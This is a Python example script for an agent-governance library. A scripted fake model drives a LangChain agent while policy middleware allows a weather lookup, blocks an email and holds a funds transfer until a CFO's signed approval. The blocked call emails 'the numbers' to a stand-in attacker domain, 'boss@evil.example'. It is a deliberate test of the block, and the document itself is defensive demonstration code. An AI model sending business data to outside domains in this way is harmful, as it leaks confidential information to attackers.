"""A LangChain agent governed by agt, offline: LangChain's own fake chat model plays the LLM.

    pip install 'agt[langchain]'
    python examples/langchain_agent.py

The scripted model asks for three tools. agt lets ``get_weather`` run, refuses ``send_email`` to an outside
domain (the model reads why, as an error ToolMessage), and pauses ``transfer_funds`` with LangGraph's
``interrupt()`` until the CFO's signed vote is in agt's approval store; the resumed run then transfers.

The policy (examples/offline_policy.yaml), the plain tools and the CFO's keys come from examples/_offline.py.
"""

from __future__ import annotations

import os
import sys

os.environ.setdefault("LANGSMITH_TRACING", "false")

from langchain.agents import create_agent  # noqa: E402
from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel  # noqa: E402
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage  # noqa: E402
from langgraph.checkpoint.memory import MemorySaver  # noqa: E402
from langgraph.types import Command  # noqa: E402

from _offline import RAN, get_weather, offline_governor, send_email, transfer_funds  # noqa: E402
from agt.adapters.langchain import GovernanceMiddleware  # noqa: E402
from agt.runtime import cast_vote  # noqa: E402


class ScriptedModel(FakeMessagesListChatModel):
    """LangChain's fake chat model; create_agent binds tools to its model, so this one accepts that."""

    def bind_tools(self, tools, **kwargs):  # noqa: ANN001, ANN003
        return self


def main() -> int:
    with offline_governor("langchain", keep=True) as env:  # examples/offline_policy.yaml, a signed audit log, the CFO
        model = ScriptedModel(responses=[
            AIMessage("", tool_calls=[
                {"name": "get_weather", "args": {"city": "Paris"}, "id": "call_weather"},
                {"name": "send_email", "args": {"to": "boss@evil.example", "body": "the numbers"}, "id": "call_email"},
                {"name": "transfer_funds", "args": {"amount": 500}, "id": "call_transfer"},
            ]),
            AIMessage("All done."),
        ])
        # The three lines a user adds (approvals="interrupt" pauses the graph; the default waits on agt's store):
        governance = GovernanceMiddleware(env.governor, agent="finance-bot", approvals="interrupt")
        agent = create_agent(model, [get_weather, send_email, transfer_funds], middleware=[governance],
                             checkpointer=MemorySaver())

        config = {"configurable": {"thread_id": "example"}}
        state = agent.invoke({"messages": [HumanMessage("weather, mail the boss, pay the supplier")]}, config)
        for pause in state.get("__interrupt__", ()):
            value = pause.value
            print(f"{value['tool']}: paused for approval "
                  f"(agt request {value['approval_id']}, rules {value['rule_ids']})")
            # A human decides in agt's store (`agt approvals approve ID`); here the CFO's key signs the vote.
            cast_vote(env.governor.approvals, value["approval_id"], env.cfo, True, note="example reviewer")
        state = agent.invoke(Command(resume="resume"), config)  # agt's store decides; the resume value is not trusted

        for message in state["messages"]:
            if isinstance(message, ToolMessage):
                if message.status == "error":
                    print(f"{message.name}: denied. The model reads: {message.content}")
                elif message.name == "transfer_funds":
                    print(f"{message.name}: ran after the CFO's vote -> {message.content}")
                else:
                    print(f"{message.name}: ran -> {message.content}")
        print(f"tools that ran: {', '.join(RAN)}")
        print(f"approval requests opened: {len(env.governor.approvals.list())}")
        print(f"audit log: {env.audit_dir}")
    return 0 if "send_email" not in RAN and "transfer_funds" in RAN else 1


if __name__ == "__main__":
    sys.exit(main())
